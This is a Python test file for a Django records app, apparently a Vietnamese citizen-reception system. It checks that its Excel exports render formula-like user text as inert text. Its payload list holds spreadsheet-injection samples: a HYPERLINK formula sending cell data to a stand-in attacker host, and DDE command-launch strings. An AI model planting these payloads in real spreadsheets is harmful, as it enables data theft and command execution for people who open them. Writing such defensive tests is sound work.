"""Formula injection: text typed into DVCQ (a visit's notes, a field's name, a report's title,
a unit's name) that starts like a formula must open in a spreadsheet as the same text, never
as a live formula; numbers stay numbers. Every .xlsx export is fed the payloads, and every
module that uses openpyxl must save through ``dvcq.spreadsheet.xlsx_bytes``."""

import datetime
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.conf import settings
from openpyxl import Workbook, load_workbook

from citizens import exports, services, stats
from citizens.models import CaseType, Channel, Petition, PetitionField, Visit
from dvcq.spreadsheet import xlsx_bytes
from reports import services as report_services
from reports.comparison_xlsx import comparison_xlsx
from reports.dashboard import columns
from reports.export import report_xlsx
from reports.models import ReportKind
from reports.periods import Period

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DAY = datetime.date(2026, 3, 2)


def cells_of(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_safe(data: bytes, payloads=PAYLOADS) -> None:
    cells = cells_of(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in payloads:
        holding = [t for t in texts if payload.strip() in t]
        assert holding, payload
        for text in holding:
            if text.startswith(("=", "+", "-", "@", "\t", "\r")):
                cell = next(c for c in cells if c.value == text)
                assert cell.data_type == "s" and cell.quotePrefix


def test_the_helper_keeps_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    book.active.append([*PAYLOADS, 42, -3.5, "bình thường"])
    cells = cells_of(xlsx_bytes(book))
    assert [c.value for c in cells] == [*PAYLOADS, 42, -3.5, "bình thường"]
    assert [c.data_type for c in cells] == ["s"] * len(PAYLOADS) + ["n", "n", "s"]
    assert all(c.quotePrefix for c in cells[: len(PAYLOADS)])
    assert not cells[-1].quotePrefix


@pytest.mark.django_db
def test_the_reception_register_and_the_statistics_forms(commune, clerk):
    field = PetitionField.objects.create(code="x", name=PAYLOADS[0])
    for n, payload in enumerate(PAYLOADS):
        services.record_visit(
            unit=commune,
            actor=clerk,
            data={
                "date": DAY,
                "name": payload,
                "address": payload,
                "case_type": CaseType.PETITION,
                "content": payload,
                "handled_before": payload,
                "guided_to": payload,
                "forwarded_to": payload,
                "result": payload,
                "notes": payload,
            },
        )
        services.intake(
            unit=commune,
            actor=clerk,
            data={
                "received_on": DAY,
                "channel": Channel.POST,
                "case_type": CaseType.PETITION,
                "field": field,
                "content": f"{payload} {n}",
            },
            people=[{"name": payload}],
        )
    visits = Visit.objects.filter(unit=commune)
    assert_safe(exports.register_xlsx(visits, PAYLOADS[1], 2026))
    petitions = Petition.objects.filter(unit=commune)
    start, end = datetime.date(2026, 1, 1), datetime.date(2026, 12, 31)
    for form in stats.statistical_forms(petitions, visits, start, end):
        assert_safe(exports.form_xlsx(form, PAYLOADS[1]), PAYLOADS[1:2])


@pytest.mark.django_db
def test_the_report_tables(commune, clerk):
    report = report_services.create_report(
        unit=commune, actor=clerk, kind=ReportKind.YEAR, period=Period.year(2023)
    )
    report.title = PAYLOADS[0]
    report.save(update_fields=["title"])
    commune.name = PAYLOADS[3]
    commune.save(update_fields=["name"])
    report.refresh_from_db()
    assert_safe(report_xlsx(report), [PAYLOADS[0], PAYLOADS[3]])


def test_the_dashboard_table():
    period = SimpleNamespace(label=PAYLOADS[2])
    entries = [
        (SimpleNamespace(name=payload), {c.key: 3 for c in columns()}, []) for payload in PAYLOADS
    ]
    data = comparison_xlsx(SimpleNamespace(name=PAYLOADS[4]), period, entries)
    assert_safe(data)
    sheet = load_workbook(io.BytesIO(data)).active
    body = list(sheet.iter_rows(min_row=6, max_row=5 + len(PAYLOADS), values_only=True))
    assert [row[1] for row in body] == PAYLOADS
    assert all(value == 3 for row in body for value in row[2:])


def test_no_export_saves_a_workbook_without_the_helper():
    """A new export that forgets ``xlsx_bytes`` is caught here: outside the helper, no module
    that uses openpyxl may call ``.save(`` (on a workbook) itself."""
    root = Path(settings.BASE_DIR)
    helper = root / "dvcq" / "spreadsheet.py"
    offenders = []
    for path in root.rglob("*.py"):
        parts = set(path.relative_to(root).parts)
        if parts & {".venv", "node_modules", "tests", "migrations"} or path == helper:
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" in source and re.search(r"\b(wb|workbook|book)\.save\(", source):
            offenders.append(str(path.relative_to(root)))
        if "openpyxl" in source and "Workbook(" in source and "xlsx_bytes" not in source:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
